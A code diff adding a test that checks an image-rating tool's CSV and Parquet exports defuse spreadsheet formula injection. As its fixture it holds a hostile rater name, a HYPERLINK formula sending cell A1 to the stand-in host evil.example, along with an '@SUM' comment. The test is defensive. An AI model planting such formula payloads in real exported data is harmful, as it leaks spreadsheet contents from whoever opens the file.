@@ -29,3 +29,23 @@ def test_exports_hold_every_row_with_rater_sides_and_outcome(file_store, tmp_pat
         assert conn.execute("SELECT COUNT(*) FROM judgments").fetchone()[0] == 2
     with Store(backup) as restored:
         assert restored.images.count() == 2
+
+
+def test_formula_names_and_comments_are_neutralised_in_both_formats(file_store):
+    dataset = file_store.datasets.ensure("d")
+    a, b = (
+        file_store.images.add(NewImage(dataset, f"h{i}", "x.png", 4, 4, "train"))[0]
+        for i in range(2)
+    )
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rater = file_store.raters.ensure(hostile)
+    file_store.judgments.append(Answer(a, b, "left", rater, comment="@SUM(1+1)"))
+    file_store.judgments.append(Answer(b, a, "right", file_store.raters.ensure("Dr Ok")))
+    for frame in (
+        pd.read_csv(io.BytesIO(judgments_csv(file_store))),
+        pd.read_parquet(io.BytesIO(judgments_parquet(file_store))),
+    ):
+        assert frame.loc[0, "rater"] == "'" + hostile
+        assert frame.loc[0, "comment"] == "'@SUM(1+1)"
+        assert frame.loc[1, "rater"] == "Dr Ok"  # harmless text is left as it is
+        assert frame.loc[0, "left_image_id"] == a  # numbers are not touched
